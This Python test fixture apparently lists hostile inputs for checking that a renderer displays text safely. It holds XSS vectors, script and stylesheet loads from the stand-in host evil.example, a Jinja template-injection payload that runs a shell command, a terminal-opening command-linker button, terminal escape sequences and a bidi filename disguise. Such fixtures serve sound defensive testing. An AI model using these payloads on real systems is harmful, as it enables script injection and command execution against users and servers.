"""Texts that would act, break out, or deceive, were they not shown as text."""

LINES = """
<script>alert(1)</script>
</script><script>alert(1)</script>
<ScRiPt src=//evil.example/x.js></ScRiPt>
<img src=x onerror=alert(1)>
<img/src="x"/onerror=alert(1)>
"><img src=x onerror=alert(1)>
'><img src=x onerror=alert(1)>
" onmouseover="alert(1)
' onfocus='alert(1)' autofocus='
`onload=alert(1)`
<svg onload=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html;base64,PHNjcmlwdD4="></object>
<embed src="javascript:alert(1)">
<a href="javascript:alert(1)">red</a>
<a href="java&#10;script:alert(1)">red</a>
<a href=" &#14; javascript:alert(1)">red</a>
<form action="javascript:alert(1)"><button>red</button></form>
<button data-commandlinker-command="terminal:create-new">red</button>
<button formaction="javascript:alert(1)">red</button>
<input onfocus=alert(1) autofocus>
<body onload=alert(1)>
<base href="//evil.example/">
<link rel=stylesheet href="//evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="Content-Security-Policy" content="script-src *">
<style>@import "//evil.example/x.css";</style>
</style><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
</pre></code><script>alert(1)</script>
</details></section></main><script>alert(1)</script>
<div style="background:url(javascript:alert(1))">
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<!--><script>alert(1)</script>-->
<!-- ]]> <script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
%3Cscript%3Ealert(1)%3C/script%3E
\\u003cscript\\u003ealert(1)\\u003c/script\\u003e
+ADw-script+AD4-alert(1)+ADw-/script+AD4-
{{ 7 * 7 }}{{ cycler.__init__.__globals__.os.popen("id").read() }}
{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}
{# comment #}{%- raw -%}
${7*7} #{7*7} <%= 7*7 %>
[red](javascript:alert(1))
![red](javascript:alert(1))
![red](x "onerror=alert(1)")
[red]: javascript:alert(1)
<javascript:alert(1)>
[red](data:text/html;base64,PHNjcmlwdD4=)
$\\href{javascript:alert(1)}{red}$
\\(\\href{javascript:alert(1)}{red}\\)
$$\\unicode{<img src=x onerror=alert(1)>}$$
| red | blue |
- [ ] # heading > quote * item 1. item
***red*** __red__ ~~red~~ `red` ``` red
\\<script>alert(1)</script> \\`<b>\\`
"""
HOSTILE = [
    *LINES.strip().splitlines(),
    "```\n<script>alert(1)</script>\n```\n",
    "~~~\n<script>alert(1)</script>",
    "\n\n<script>alert(1)</script>\n\n",
    "\n\n# heading\n\n---\n===\n> quote\n",
    "\n    <b>code</b>\n\t<b>code</b>",
    "\x1b[31mred\x1b[0m \x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07 \x1b]0;title\x07 \x1bc",
    "\x9b31m \x9d0;title\x9c",
    "nothing\x00<script\x00>alert(1)</script>",
    "abc\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "ze\u200bro\u200d wi\u2060dth \ufeff \u00ad \U000e0041",
    "a\rb\x0bc\x0cd\x85e\u2028f\u2029g",
    "x" * 5000,
    "\ufdfd\u0489\u0301\u0301\u0301 漢字 ñ 🙂",
]
